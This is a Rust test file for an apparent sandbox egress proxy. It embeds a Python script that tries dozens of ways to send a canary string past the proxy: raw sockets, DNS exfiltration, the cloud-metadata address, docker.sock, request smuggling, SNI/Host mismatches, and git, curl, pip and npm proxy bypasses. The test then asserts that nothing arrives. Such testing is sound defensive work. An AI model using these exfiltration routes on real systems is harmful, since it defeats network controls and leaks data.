//! A program with a grant for one origin that tries every way to get a canary to somewhere else.

use super::upstream::Recorder;
use super::{FETCH, TUNNEL, ended, hello, python, runner};

/// What must not arrive.
const CANARY: &str = "canary-7f3a9c";

/// Ways that need no proxy: TCP, UDP, IPv6, raw sockets, ICMP, abstract names, other families, DNS.
const DIRECT: &str = "
import socket, os, struct, subprocess
def attempt(how):
    try: how()
    except Exception as error: pass
def tcp(family, to):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(2); s.connect(to); s.sendall(C)
def udp(family, to):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(C, to)
for address in ['127.0.0.1', '192.0.2.1', '10.0.0.1', '169.254.169.254', '255.255.255.255', '224.0.0.1']:
    attempt(lambda: tcp(socket.AF_INET, (address, PORT)))
    attempt(lambda: udp(socket.AF_INET, (address, PORT)))
for address in ['::1', '::ffff:127.0.0.1', '2001:db8::1', 'fe80::1', 'ff02::1']:
    attempt(lambda: tcp(socket.AF_INET6, (address, PORT)))
    attempt(lambda: udp(socket.AF_INET6, (address, PORT)))
for kind, protocol in [(socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
                       (socket.SOCK_RAW, socket.IPPROTO_RAW), (socket.SOCK_RAW, socket.IPPROTO_UDP)]:
    attempt(lambda: socket.socket(socket.AF_INET, kind, protocol).sendto(C, ('127.0.0.1', PORT)))
attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).send(C))
attempt(lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, PORT)))
def unix():
    s = socket.socket(socket.AF_UNIX); s.connect('\\0' + NAME); s.sendall(C)
attempt(unix)
for path in ['/var/run/docker.sock', '/run/systemd/resolve/io.systemd.Resolve', '/run/dbus/system_bus_socket']:
    def file():
        s = socket.socket(socket.AF_UNIX); s.connect(path); s.sendall(C)
    attempt(file)
attempt(lambda: socket.getaddrinfo(C.decode() + '.example', 80))
for server in ['127.0.0.53', '127.0.0.11', '8.8.8.8', '127.0.0.1']:
    question = b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([len(C)]) + C + b'\\7example\\0\\0\\1\\0\\1'
    attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, (server, 53)))
";

/// Ways through the proxy, and of tools with proxies of their own.
const PROXIED: &str = "
for target in [f'127.0.0.1:{PORT}', f'localhost:{PORT}', f'[::1]:{PORT}', f'other.example:443', '0:443']:
    attempt(lambda: tunnel(target).sendall(C))
attempt(lambda: ask(f'GET http://127.0.0.1:{PORT}/{C.decode()} HTTP/1.1\\r\\nHost: test.example\\r\\n\\r\\n').recv(99))
attempt(lambda: ask(f'GET http://test.example/ HTTP/1.1\\r\\nHost: 127.0.0.1:{PORT}\\r\\nX: {C.decode()}\\r\\n\\r\\n').recv(99))
attempt(lambda: ask(f'GET / HTTP/1.1\\r\\nHost: 127.0.0.1:{PORT}\\r\\nX: {C.decode()}\\r\\n\\r\\n').recv(99))
attempt(lambda: ask(f'POST https://test.example/ HTTP/1.1\\r\\nHost: test.example\\r\\n\\r\\n{C.decode()}').recv(99))
attempt(lambda: ask(f'CONNECT test.example:443@127.0.0.1:{PORT} HTTP/1.1\\r\\n\\r\\n').recv(99))
attempt(lambda: ask(f'CONNECT 127.0.0.1:{PORT}#test.example:443 HTTP/1.1\\r\\n\\r\\n').recv(99))
attempt(lambda: ask(f'CONNECT test.example:443\\r\\nHost: 127.0.0.1:{PORT}\\r\\n\\r\\n').recv(99))
unverified = ssl._create_unverified_context()
def other_name(name, host):
    s = unverified.wrap_socket(tunnel('test.example:443'), server_hostname=name)
    s.settimeout(5)
    s.sendall(b'POST /pub/ HTTP/1.1\\r\\nHost: ' + host + b'\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(C) + C)
    s.recv(99)
for name, host in [('other.example', b'test.example'), ('test.example', b'other.example'),
                   ('test.example', f'127.0.0.1:{PORT}'.encode()), ('test.example', b'test.example')]:
    attempt(lambda: other_name(name, host))
def smuggle():
    s = unverified.wrap_socket(tunnel('test.example:443'), server_hostname='test.example')
    s.settimeout(5)
    s.sendall(b'GET /pub/a HTTP/1.1\\r\\nHost: test.example\\r\\nContent-Length: 0\\r\\n'
              b'Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nPOST /' + C + b' HTTP/1.1\\r\\nHost: test.example\\r\\n\\r\\n')
    s.recv(99)
attempt(smuggle)
for url in [f'http://127.0.0.1:{PORT}/', f'http://localhost:{PORT}/', f'http://[::1]:{PORT}/',
            f'https://test.example/private/', 'https://test.example/pub/../' + C.decode(),
            f'ftp://127.0.0.1:{PORT}/']:
    fetch(url, None if 'pub' in url else C)
def run(*command, **variables):
    subprocess.run(command, timeout=15, capture_output=True, env=dict(os.environ, GIT_TERMINAL_PROMPT='0', **variables))
c = C.decode()
own = f'http://127.0.0.1:{PORT}'
for command in [('git', 'ls-remote', f'https://127.0.0.1:{PORT}/{c}.git'), ('git', 'ls-remote', f'git://127.0.0.1:{PORT}/{c}'),
                ('git', '-c', f'http.proxy={own}', 'ls-remote', f'https://test.example/{c}.git'),
                ('git', 'ls-remote', f'ssh://127.0.0.1:{PORT}/{c}'),
                ('curl', '-sm5', '--noproxy', '*', f'{own}/{c}'), ('curl', '-sm5', '-x', own, f'http://a.example/{c}'),
                ('curl', '-sm5', '--socks5', f'127.0.0.1:{PORT}', f'http://a.example/{c}'),
                ('curl', '-sm5', '--resolve', f'test.example:443:127.0.0.1', f'https://test.example:{PORT}/{c}'),
                ('pip3', 'download', '--no-input', '--extra-index-url', f'{own}/{c}', '--trusted-host', '127.0.0.1', c),
                ('npm', 'view', '--registry', f'{own}/{c}/', c)]:
    attempt(lambda: run(*command))
attempt(lambda: run('curl', '-sm5', f'{own}/{c}', HTTP_PROXY='', http_proxy='', NO_PROXY='*', no_proxy='*'))
";

#[test]
fn no_canary_arrives_anywhere() {
    let (server, recorder) = (hello(), Recorder::new());
    let trial = runner(&ended(&server, "methods = ['GET']\npaths = ['/pub/']"));
    let script = format!(
        "PORT = {}\nNAME = '{}'\nC = b'{CANARY}'\n{FETCH}{TUNNEL}{DIRECT}{PROXIED}\
         fetch('https://test.example/pub/end')\nprint('tried all')\n",
        recorder.port, recorder.name
    );
    let (stdout, stderr) = python(&trial, &script);
    assert!(stdout.ends_with("200 hello\ntried all\n"), "{stdout}{stderr}");
    let heard = recorder.heard();
    assert!(heard.is_empty(), "{}", String::from_utf8_lossy(&heard));
    let asked = server.asked();
    assert!(asked.iter().all(|head| !head.contains(CANARY)), "{asked:?}");
    assert!(asked.iter().all(|head| head.starts_with("GET /pub/")), "{asked:?}");
    assert!(asked.last().is_some_and(|head| head.starts_with("GET /pub/end ")), "{asked:?}");
}

/// What a program has after the run of another: nothing listens any more, and authorities differ.
#[test]
fn each_run_has_an_authority_of_its_own() {
    let server = hello();
    let trial = runner(&ended(&server, ""));
    let script = "import os, hashlib; file = os.environ['SSL_CERT_FILE']; \
                  print(file, hashlib.sha256(open(file, 'rb').read()).hexdigest())";
    let (first, _) = python(&trial, script);
    let (second, _) = python(&trial, script);
    assert_ne!(first, second);
    let file = first.split(' ').next().unwrap();
    assert!(!std::path::Path::new(file).exists(), "{file} was not removed");
}
